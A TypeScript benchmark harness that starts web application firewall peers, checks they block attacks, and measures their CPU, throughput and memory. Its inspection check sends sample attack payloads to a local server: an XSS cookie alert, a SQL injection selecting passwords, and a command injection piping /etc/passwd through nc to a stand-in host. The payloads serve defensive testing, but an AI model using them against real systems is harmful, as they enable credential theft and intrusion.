/** One peer at one paranoia level: started, proved to refuse what it must, measured any number of times. */
import { mkdir, writeFile } from 'node:fs/promises';
import { request } from 'node:http';
import { join } from 'node:path';
import { temporaryFolder, withFreePort, type Teardown } from '../../test/support/servers/process.ts';
import { AccessLogCount } from '../access-log-count.ts';
import type { LoadProcess } from '../load-process.ts';
import type { StartedPeer } from '../peers/peer.ts';
import { processTreeBytes } from '../process-cpu.ts';
import type { Traffic, WafLoadOrder, WafLoadResult } from './load.ts';
import type { WafPeer } from './peer.ts';
import { host } from './shop-requests.ts';
import type { WafBenchOptions } from './waf-options.ts';

export interface Contender {
  readonly peer: WafPeer;
  readonly paranoia: number;
  readonly port: number;
  readonly started: StartedPeer;
  readonly log: AccessLogCount;
  readonly startMs: number;
  /** Answers so far, refusals included. */
  answers: number;
}

export interface Figures {
  /** One value per round, as in the others. */
  readonly cpuUs: number[];
  readonly requestsPerSecond: number[];
  /** What the load generator spent itself. */
  readonly loadUs: number[];
  /** Share of the measured core that others took: what makes a round doubtful. */
  readonly othersPercent: number[];
}

export type WafLoadProcess = LoadProcess<WafLoadOrder, WafLoadResult>;

/** What the rules as published have at level 1. Higher levels find fault with ordinary requests: there they count and let pass. */
const publishedThreshold = 5;
const countingThreshold = 1_000;

export async function enterContender(
  t: Teardown,
  peer: WafPeer,
  paranoia: number,
  originPort: number,
  options: WafBenchOptions,
): Promise<Contender> {
  const folder = await temporaryFolder(t, `bench-${peer.name}`);
  const accessLog = join(folder, 'access.log');
  await mkdir(folder, { recursive: true });
  await writeFile(accessLog, '');
  return withFreePort(async (port) => {
    const { coreRules, proxyCore: core } = options;
    const inboundThreshold = paranoia === 1 ? publishedThreshold : countingThreshold;
    const startedAt = performance.now();
    const context = { folder, accessLog, port, originPort, core, coreRules, paranoia, inboundThreshold };
    const started = await peer.start(t, context);
    const startMs = performance.now() - startedAt;
    return { peer, paranoia, port, started, log: new AccessLogCount(accessLog), startMs, answers: 0 };
  });
}

/**
 * At level 1 single attacks are refused and many blanks are not; above, where blanks in values are a fault of their own, so many
 * of them are refused that the higher level must have counted them.
 */
export async function proveThatItInspects(contender: Contender): Promise<void> {
  const blanks = `/?${Array.from({ length: 300 }, (_, index) => `a${index}=x+y`).join('&')}`;
  const probes: readonly (readonly [path: string, form: string | null, status: number])[] =
    contender.paranoia === 1
      ? [
          [`/?q=${encodeURIComponent('<script>alert(document.cookie)</script>')}`, null, 403],
          [`/?id=${encodeURIComponent("1' or '1'='1' union select password from users -- ")}`, null, 403],
          ['/contact', `message=${encodeURIComponent('; cat /etc/passwd | nc 192.0.2.1 9')}`, 403],
          [blanks, null, 200],
        ]
      : [[blanks, null, 403]];
  for (const [index, [path, form, wanted]] of probes.entries()) {
    // Each from another address: a client that was banned for the first would be refused for the wrong reason.
    const status = await ask(contender.port, path, form, `82.16.0.${index + 1}`);
    contender.answers += 1;
    if (status === wanted) continue;
    const { peer, paranoia, started } = contender;
    const what = `${peer.name} at paranoia level ${paranoia} answered ${status} instead of ${wanted} to ${path.slice(0, 100)}`;
    throw new Error(`${what}\n${started.process.output()}`);
  }
}

function ask(port: number, path: string, form: string | null, client: string): Promise<number> {
  const headers: Record<string, string | number> = {
    Host: host,
    'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
    Accept: '*/*',
    'X-Forwarded-For': client,
    Connection: 'close',
  };
  if (form !== null) {
    headers['Content-Type'] = 'application/x-www-form-urlencoded';
    headers['Content-Length'] = form.length;
  }
  return new Promise((resolve, reject) => {
    const method = form === null ? 'GET' : 'POST';
    const sent = request({ host: '127.0.0.1', port, path, method, headers, agent: false }, (response) => {
      response.resume();
      response.once('end', () => resolve(response.statusCode ?? 0));
      response.once('error', reject);
    });
    sent.once('error', reject);
    sent.end(form ?? undefined);
  });
}

export interface Measurement {
  readonly traffic: Traffic;
  readonly connections: number;
  readonly warmupSeconds: number;
  readonly seconds: number;
}

/** Rejects when an answer is not the origin's. */
export async function measureContender(
  contender: Contender,
  load: WafLoadProcess,
  core: number,
  { traffic, connections, warmupSeconds, seconds }: Measurement,
): Promise<WafLoadResult> {
  const { port, started, peer, paranoia } = contender;
  const [warmupMs, measureMs] = [warmupSeconds * 1000, seconds * 1000];
  try {
    const result = await load.run({ port, traffic, connections, warmupMs, measureMs, pid: started.process.pid, core });
    contender.answers += result.total;
    await contender.log.countAndEmpty();
    return result;
  } catch (error) {
    throw new Error(
      `${peer.name} at paranoia level ${paranoia}: ${error instanceof Error ? error.message : String(error)}`,
      {
        cause: error,
      },
    );
  }
}

export function addRound(figures: Figures, result: WafLoadResult): void {
  figures.cpuUs.push(result.cpuUs / result.measured);
  figures.requestsPerSecond.push((result.measured / result.elapsedMs) * 1000);
  figures.loadUs.push(result.loadCpuUs / result.measured);
  figures.othersPercent.push(result.othersUs / result.elapsedMs / 10);
}

export function noFigures(): Figures {
  return { cpuUs: [], requestsPerSecond: [], loadUs: [], othersPercent: [] };
}

/** Its memory in bytes, shared pages counted once. */
export function memoryOf(contender: Contender): number {
  return processTreeBytes(contender.started.process.pid);
}

/** Ends it; rejects unless its access log has one line for each answer. */
export async function leaveContender({ peer, paranoia, started, log, answers }: Contender): Promise<void> {
  await started.process.stop();
  const lines = await log.countAndEmpty();
  if (lines === answers) return;
  throw new Error(`the access log of ${peer.name} (level ${paranoia}) has ${lines} lines for ${answers} requests`);
}
